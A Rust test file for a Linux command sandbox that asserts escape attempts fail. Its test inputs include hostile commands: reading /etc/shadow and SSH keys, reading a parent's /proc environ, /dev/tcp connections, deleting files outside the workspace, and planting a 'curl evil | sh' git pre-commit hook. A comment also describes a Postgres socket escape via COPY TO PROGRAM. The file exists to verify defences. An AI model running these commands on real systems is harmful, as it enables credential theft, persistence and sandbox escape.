//! Commands confined by a real sandbox on this kernel: each escape must fail.

#![cfg(target_os = "linux")]

use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Output};

use amplifier_sandbox::{support, Policy, Sandbox};

fn sandbox(workspace: &Path, network: bool) -> Sandbox {
    assert!(support().is_enforceable(), "this test needs Landlock and seccomp: {}", support().describe());
    Sandbox::new(Policy { writable: vec![workspace.to_path_buf()], network, ..Policy::default() }).expect("sandbox")
}

fn run(sandbox: &Sandbox, dir: &Path, script: &str) -> Output {
    let mut command = Command::new("bash");
    command.arg("-c").arg(script).current_dir(dir);
    sandbox.confine(&mut command);
    command.output().expect("bash starts")
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[test]
fn writes_land_only_in_the_workspace() {
    let workspace = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let sandbox = sandbox(workspace.path(), false);
    let inside = run(&sandbox, workspace.path(), "echo kept > note.txt && mkdir -p a/b && echo x > a/b/c && rm a/b/c");
    assert!(inside.status.success(), "{}", stderr(&inside));
    assert_eq!(std::fs::read_to_string(workspace.path().join("note.txt")).unwrap(), "kept\n");

    let target = outside.path().join("escaped.txt");
    let escape = run(&sandbox, workspace.path(), &format!("echo no > '{}'", target.display()));
    assert!(!escape.status.success());
    assert!(stderr(&escape).contains("Permission denied"), "{}", stderr(&escape));
    assert!(!target.exists());

    let linked =
        run(&sandbox, workspace.path(), &format!("ln -s '{}' out && echo no > out/x", outside.path().display()));
    assert!(!linked.status.success());
    assert!(!outside.path().join("x").exists());
    let removed = run(&sandbox, workspace.path(), &format!("rm -rf '{}'", outside.path().display()));
    assert!(!removed.status.success());
    assert!(outside.path().exists());
}

#[test]
fn secrets_and_unlisted_directories_cannot_be_read() {
    let workspace = tempfile::tempdir().unwrap();
    let private = tempfile::tempdir().unwrap();
    std::fs::write(private.path().join("id_ed25519"), "secret key").unwrap();
    let sandbox = sandbox(workspace.path(), false);
    let read = run(&sandbox, workspace.path(), &format!("cat '{}/id_ed25519'", private.path().display()));
    assert!(!read.status.success());
    assert!(!String::from_utf8_lossy(&read.stdout).contains("secret"));
    if Path::new("/etc/shadow").exists() {
        let shadow = run(&sandbox, workspace.path(), "cat /etc/shadow");
        assert!(!shadow.status.success(), "/etc/shadow was read");
    }
    // Programs and their configuration still work.
    let tools = run(&sandbox, workspace.path(), "ls /usr/bin >/dev/null && grep -q root /etc/passwd && echo ok");
    assert_eq!(String::from_utf8_lossy(&tools.stdout), "ok\n", "{}", stderr(&tools));
}

#[test]
fn read_everywhere_still_hides_the_hidden_paths() {
    let workspace = tempfile::tempdir().unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let vault = elsewhere.path().join("vault");
    std::fs::create_dir(&vault).unwrap();
    std::fs::write(vault.join("token"), "secret").unwrap();
    std::fs::write(elsewhere.path().join("notes"), "public").unwrap();
    let policy = Policy {
        writable: vec![workspace.path().to_path_buf()],
        read_everywhere: true,
        hidden: vec![vault.clone()],
        ..Policy::default()
    };
    let sandbox = Sandbox::new(policy).unwrap();
    let public = run(&sandbox, workspace.path(), &format!("cat '{}/notes'", elsewhere.path().display()));
    assert_eq!(String::from_utf8_lossy(&public.stdout), "public");
    let secret = run(&sandbox, workspace.path(), &format!("cat '{}/token'", vault.display()));
    assert!(!secret.status.success());
    // A directory holding a hidden one lists (`ls ~` works); the hidden
    // one's names show, never what its files hold.
    let listed =
        run(&sandbox, workspace.path(), &format!("ls '{}'; ls '{}'", elsewhere.path().display(), vault.display()));
    assert_eq!(String::from_utf8_lossy(&listed.stdout), "notes\nvault\ntoken\n", "{}", stderr(&listed));
    let disk = run(&sandbox, workspace.path(), "cat /dev/urandom | head -c 4 | wc -c");
    assert_eq!(String::from_utf8_lossy(&disk.stdout).trim(), "4", "{}", stderr(&disk));
}

#[test]
fn the_network_is_closed_unless_allowed() {
    let workspace = tempfile::tempdir().unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let connect = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");
    let closed = run(&sandbox(workspace.path(), false), workspace.path(), &connect);
    assert!(!closed.status.success());
    assert!(stderr(&closed).contains("not permitted"), "{}", stderr(&closed));
    let open = run(&sandbox(workspace.path(), true), workspace.path(), &connect);
    assert_eq!(String::from_utf8_lossy(&open.stdout), "connected\n", "{}", stderr(&open));
    // AF_UNIX stays usable: programs talk to their own helpers over socketpairs.
    let unix = run(
        &sandbox(workspace.path(), false),
        workspace.path(),
        "perl -MSocket -e 'socketpair(my $a, my $b, AF_UNIX, SOCK_STREAM, 0) or die \"$!\"; print 1, \"\\n\"'",
    );
    assert_eq!(String::from_utf8_lossy(&unix.stdout), "1\n", "{}", stderr(&unix));
}

#[test]
fn root_loses_its_capabilities() {
    let workspace = tempfile::tempdir().unwrap();
    let status =
        run(&sandbox(workspace.path(), false), workspace.path(), "grep -E '^Cap(Prm|Eff|Bnd|Amb)' /proc/self/status");
    let text = String::from_utf8_lossy(&status.stdout).into_owned();
    assert_eq!(text.lines().count(), 4, "{text}");
    for line in text.lines() {
        assert!(line.ends_with("0000000000000000"), "{line}");
    }
}

#[test]
fn nothing_leaves_the_process_group_or_signals_outside() {
    let workspace = tempfile::tempdir().unwrap();
    let sandbox = sandbox(workspace.path(), false);
    let setsid = run(&sandbox, workspace.path(), "setsid sleep 100");
    assert!(!setsid.status.success());
    assert!(stderr(&setsid).contains("not permitted"), "{}", stderr(&setsid));
    let setpgid = run(&sandbox, workspace.path(), "perl -e 'setpgrp(0, 0) or die \"setpgid: $!\\n\"'");
    assert_eq!(stderr(&setpgid), "setpgid: Operation not permitted\n");

    // The parent (this test, dumpable) is outside the sandbox: it can't be
    // signalled, nor its environment read.
    let me = std::process::id();
    let kill = run(&sandbox, workspace.path(), &format!("kill -0 {me}"));
    assert!(!kill.status.success(), "a confined command could signal its parent");
    let environ = run(&sandbox, workspace.path(), &format!("cat /proc/{me}/environ"));
    assert!(!environ.status.success());
    assert!(environ.stdout.is_empty());
}

/// A local PostgreSQL server with trust authentication on its Unix socket,
/// as distributions set it up: connecting made a sandboxed command the
/// database's superuser, and `COPY … TO PROGRAM` ran as `postgres`, outside.
/// Refused now, unless the policy names the socket's directory.
#[test]
fn a_databases_unix_socket_is_out_of_reach_unless_listed() {
    let workspace = tempfile::tempdir().unwrap();
    let server = amplifier_test_postgres::server();
    let socket = server.socket();
    let connect = format!(
        "perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => shift) or die \"$!\\n\"; print \"connected\\n\"' '{}'",
        socket.display()
    );
    // Outside the sandbox the socket answers: the refusal below is the sandbox's.
    let open = Command::new("bash").arg("-c").arg(&connect).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&open.stdout), "connected\n", "{}", stderr(&open));

    for network in [false, true] {
        let refused = run(&sandbox(workspace.path(), network), workspace.path(), &connect);
        assert!(!refused.status.success(), "connected with network: {network}");
        let said = stderr(&refused);
        assert!(said.contains("not permitted") || said.contains("Permission denied"), "{said}");
    }
    let listed = Policy {
        writable: vec![workspace.path().to_path_buf()],
        unix_sockets: vec![socket.parent().unwrap().to_path_buf()],
        ..Policy::default()
    };
    let allowed = run(&Sandbox::new(listed).unwrap(), workspace.path(), &connect);
    assert_eq!(String::from_utf8_lossy(&allowed.stdout), "connected\n", "{}", stderr(&allowed));
}

/// What configures git and amplifier stays read-only inside a writable
/// workspace: a hook a command wrote would run, unconfined, at the user's
/// next commit. Everything else in the workspace stays writable.
#[test]
fn protected_paths_in_the_workspace_stay_read_only() {
    let workspace = tempfile::tempdir().unwrap();
    let ws = workspace.path();
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(ws.join(".git/objects")).unwrap();
    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
    std::fs::create_dir(ws.join(".amplifier")).unwrap();
    let policy = Policy {
        writable: vec![ws.to_path_buf()],
        read_only: [".git/hooks", ".git/config", ".amplifier", "absent"].iter().map(|p| ws.join(p)).collect(),
        ..Policy::default()
    };
    let sandbox = Sandbox::new(policy).unwrap();
    assert!(sandbox.keeps_read_only(), "this machine allows mount namespaces (root, or user namespaces)");
    for escape in [
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config",
        "echo 'plan: evil.yaml' > .amplifier/settings.yaml",
        "rm -rf .git/hooks",
        "mv .git/hooks .git/old-hooks",
        "mv .git/config .git/config.old",
        "mount -o remount,rw .git/hooks",
        "umount .git/hooks",
    ] {
        let output = run(&sandbox, ws, escape);
        assert!(!output.status.success(), "`{escape}` worked");
    }
    assert!(!ws.join(".git/hooks/pre-commit").exists() && !ws.join(".amplifier/settings.yaml").exists());
    assert_eq!(std::fs::read_to_string(ws.join(".git/config")).unwrap(), "[core]\n");
    let said = stderr(&run(&sandbox, ws, "echo x > .git/hooks/post-commit"));
    assert!(said.contains("Read-only file system"), "{said}");
    let allowed = run(&sandbox, ws, "echo blob > .git/objects/x && echo kept > notes.txt && cat .git/config");
    assert_eq!(String::from_utf8_lossy(&allowed.stdout), "[core]\n", "{}", stderr(&allowed));
    assert!(ws.join(".git/objects/x").exists() && ws.join("notes.txt").exists());
    // Nothing the namespace mounted shows outside it.
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    assert!(!mounts.contains(&ws.join(".git/hooks").display().to_string()), "{mounts}");
}
